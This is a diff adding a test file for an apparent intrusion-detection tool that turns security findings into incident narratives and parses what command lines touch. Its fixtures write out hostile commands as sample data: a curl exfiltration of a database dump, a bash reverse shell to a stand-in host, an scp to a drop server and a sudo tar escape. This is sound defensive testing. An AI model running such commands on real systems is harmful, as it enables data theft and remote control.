@@ -1,0 +1,202 @@
+/** Stories as tables: findings in, statements out. */
+import { describe, expect, it } from 'vitest';
+import type { FileAccount, Finding } from '../../src/detect/finding.ts';
+import { type Story, tellStories } from '../../src/detect/story/story.ts';
+import { headlineOf, sayStories, statementText } from '../../src/detect/story/tell.ts';
+import { touchedBy } from '../../src/detect/story/touched.ts';
+import type { Level } from '../../src/events/level.ts';
+import { account, finding } from '../store/sample-entries.ts';
+
+const MINUTE = 60_000_000;
+const START = Date.UTC(2026, 2, 1, 8) * 1_000;
+
+interface Sketch {
+  title: string;
+  tactics: string[];
+  techniques?: string[];
+  at: number;
+  level?: Level;
+  count?: number;
+  entities?: Record<string, string[]>;
+  event?: Record<string, unknown>;
+}
+
+const found = (sketch: Sketch): Finding => {
+  const { title, tactics, techniques = [], at, level = 'high', count = 1 } = sketch;
+  const { entities = {}, event = {} } = sketch;
+  return {
+    ...finding(title),
+    rule: { ...finding('x').rule, title, tactics, techniques },
+    evidence: [{ ...finding('x').evidence[0]!, line: at + 1, offset: at * 100 }],
+    ...{ level, firstUs: START + at * MINUTE, lastUs: START + at * MINUTE, atUs: undefined },
+    ...{ count, entities, event },
+  };
+};
+
+const web = { 'source.ip': ['203.0.113.7'], 'host.name': ['web01'] };
+const BREACH: Sketch[] = [
+  { title: 'Scanner', tactics: ['reconnaissance'], at: 0, level: 'medium', entities: web },
+  {
+    ...{ title: 'Web shell', tactics: ['persistence'], techniques: ['T1505.003'], at: 5, count: 8 },
+    entities: { ...web, 'url.path': ['/up/shell.php'] },
+    event: { user: { name: 'www-data' } },
+  },
+  {
+    ...{ title: 'sudo escape', tactics: ['privilege-escalation'], at: 9 },
+    entities: { 'host.name': ['web01'], 'process.command_line': ['/usr/bin/tar --checkpoint=1'] },
+    event: {
+      user: { name: 'www-data', effective: { name: 'root' } },
+      process: { name: 'sudo' },
+    },
+  },
+  {
+    ...{ title: 'New account', tactics: ['persistence'], techniques: ['T1136.001'], at: 12 },
+    entities: { 'host.name': ['web01'], 'user.name': ['sysupdate'] },
+  },
+  {
+    ...{ title: 'Dump', tactics: ['collection'], techniques: ['T1005'], at: 18 },
+    entities: {
+      'host.name': ['web01'],
+      'process.command_line': ['pg_dump --host=10.0.0.3 --table=customers --table=orders shop'],
+    },
+  },
+  {
+    ...{ title: 'Upload', tactics: ['exfiltration'], techniques: ['T1048'], at: 20 },
+    entities: {
+      'host.name': ['web01'],
+      'process.command_line': ['curl -T /tmp/shop.tgz https://192.0.2.9:8443/in/'],
+    },
+  },
+  {
+    ...{ title: 'Logs emptied', tactics: ['defense-evasion'], at: 30 },
+    entities: { 'host.name': ['web01'] },
+  },
+];
+
+const file = (path: string, fromMinute: number, toMinute: number, format: string): FileAccount => ({
+  ...account(path, 'ab'.repeat(32)),
+  ...{ format, lines: 1_000, parsed: 1_000, joined: 0, skipped: 0, skips: {}, problem: undefined },
+  ...{ firstUs: START + fromMinute * MINUTE, lastUs: START + toMinute * MINUTE },
+});
+const FILES = [
+  file('web01/access.log', -600, 600, 'access'),
+  file('web01/audit.log', -600, 31, 'auditd'),
+];
+
+const tell = (sketches: readonly Sketch[], files = FILES): Story[] =>
+  tellStories({ findings: sketches.map(found), files });
+const textOf = (story: Story | undefined, label: string): string | undefined => {
+  const statement = story?.statements.find((one) => one.label === label);
+  return statement === undefined ? undefined : statementText(statement);
+};
+
+describe('a story', () => {
+  const [story] = tell(BREACH);
+
+  it.each<[string, string | RegExp]>([
+    ['Who', '203.0.113.7 (web)'],
+    ['In', 'Web shell at /up/shell.php, 8 requests (2026-03-01 08:05Z)'],
+    ['As', /^www-data \(.*\) > root \(sudo tar\) \(.*\) > new account sysupdate/],
+    ['Stays', 'account: sysupdate (2026-03-01 08:12Z)'],
+    ['Took', /^dump: tables customers, orders \(.*\); sent: \/tmp\/shop.tgz to 192.0.2.9:8443/],
+    ['Hid', 'Logs emptied (2026-03-01 08:30Z)'],
+    ['Open', /^the last act is 9h 30m before the logs end; audit.log is silent from then on/],
+    ['Open', /no log of .*the application.*web01's own network traffic or the database server/],
+    ['Open', /every line was read$/],
+  ])('says of %s: %s', (label, expected) => {
+    if (typeof expected === 'string') expect(textOf(story, label)).toBe(expected);
+    else expect(textOf(story, label)).toMatch(expected);
+  });
+
+  it('has a headline, at most ten statements, and a place in every one but what is open', () => {
+    expect(headlineOf(story!)).toBe(
+      'web01 was broken into, 2026-03-01 08:00Z to 2026-03-01 08:30Z (30m)',
+    );
+    expect(story!.statements.length).toBeLessThanOrEqual(10);
+    for (const { label, items } of story!.statements.filter((one) => one.label !== 'Open'))
+      expect([label, items.some(({ place }) => place !== undefined)]).toEqual([label, true]);
+    expect(story!.findings.length).toBe(BREACH.length);
+  });
+
+  it('is the same in whatever order the findings come', () => {
+    const reversed = tellStories({ findings: BREACH.map(found).reverse(), files: FILES });
+    expect(sayStories(reversed)).toEqual(sayStories([story!]));
+  });
+
+  it('bears findings without a time, and no findings', () => {
+    const timeless = { ...found(BREACH[1]!), level: 'critical' as const, firstUs: undefined };
+    const told = tellStories({ findings: [{ ...timeless, lastUs: undefined }], files: [] });
+    expect(sayStories(told)[0]?.text).toContain('at times that no line tells');
+    expect(tell([])).toEqual([]);
+  });
+});
+
+describe('what is a story and what is not', () => {
+  const probe = (at: number, ip: string): Sketch => ({
+    ...{ title: 'SQL injection', tactics: ['initial-access'], techniques: ['T1190'], at },
+    entities: { 'source.ip': [ip], 'url.path': ['/search'] },
+  });
+  const login = (at: number, ip: string, host: string, name: string): Sketch => ({
+    ...{ title: 'Login after guessing', tactics: ['credential-access'], at, level: 'critical' },
+    ...{ techniques: ['T1110', 'T1078'] },
+    entities: { 'source.ip': [ip], 'user.name': [name], 'host.name': [host] },
+    event: { user: { name }, process: { name: 'sshd' } },
+  });
+  it.each<[string, Sketch[], string[]]>([
+    ['attempts alone are none', [probe(0, '192.0.2.1'), probe(5, '192.0.2.2')], []],
+    ['a login after guessing is one', [login(0, '192.0.2.1', 'a', 'ana')], ['192.0.2.1']],
+    [
+      'two intruders on two machines are two',
+      [login(0, '192.0.2.1', 'a', 'ana'), login(900, '192.0.2.2', 'b', 'bob')],
+      ['192.0.2.1', '192.0.2.2'],
+    ],
+    [
+      'an attempt of somebody else belongs to none',
+      [login(0, '192.0.2.1', 'a', 'ana'), probe(3, '192.0.2.77')],
+      ['192.0.2.1'],
+    ],
+    [
+      'a second address out of nothing, soon, on the same machine, is the same intruder',
+      [login(0, '192.0.2.1', 'a', 'ana'), login(30, '192.0.2.2', 'a', 'bob')],
+      ['192.0.2.1, 192.0.2.2'],
+    ],
+  ])('%s', (_, sketches, whos) => {
+    const told = tell(sketches, []).map(
+      (story) =>
+        story.statements
+          .find(({ label }) => label === 'Who')
+          ?.items.map(({ text }) => text.split(' ')[0])
+          .join(', ') ?? '',
+    );
+    expect(told.sort()).toEqual(whos);
+  });
+
+  it('of an incident that somebody opened there always is one', () => {
+    const findings = [found(probe(0, '192.0.2.1'))];
+    expect(tellStories({ findings, files: [], isIncident: true }).length).toBe(1);
+  });
+});
+
+describe('what a command touches', () => {
+  it.each<[string, string[], string[], string[]]>([
+    [
+      'pg_dump --host=10.0.0.3 -t a --table=b --file=/tmp/x.sql shop',
+      ['/tmp/x.sql'],
+      ['10.0.0.3'],
+      ['a', 'b'],
+    ],
+    [
+      'curl -F file=@/tmp/x.sql https://u:p@192.0.2.9:8443/in',
+      ['/tmp/x.sql'],
+      ['192.0.2.9:8443'],
+      [],
+    ],
+    ['bash -i >& /dev/tcp/192.0.2.9/4444 0>&1', [], ['192.0.2.9:4444'], []],
+    ['scp /srv/a.tgz root@drop.example.org:/in/', ['/srv/a.tgz'], ['drop.example.org'], []],
+    ['aws s3 cp /srv/a.tgz s3://bucket/key', ['/srv/a.tgz'], ['s3://bucket'], []],
+    ['tar -t archive.tar', [], [], []],
+    ['/usr/bin/id', [], [], []],
+  ])('%s', (command, files, destinations, tables) => {
+    expect(touchedBy(command)).toEqual({ files, destinations, tables });
+  });
+});
